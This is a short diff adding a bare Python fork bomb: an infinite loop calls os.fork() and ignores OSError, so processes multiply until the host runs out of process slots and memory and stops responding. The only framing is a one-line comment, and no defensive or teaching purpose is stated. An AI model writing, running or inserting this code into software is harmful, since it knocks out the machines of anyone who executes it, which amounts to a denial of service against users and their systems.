@@ -1,0 +1,8 @@
+# Every process forks two.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
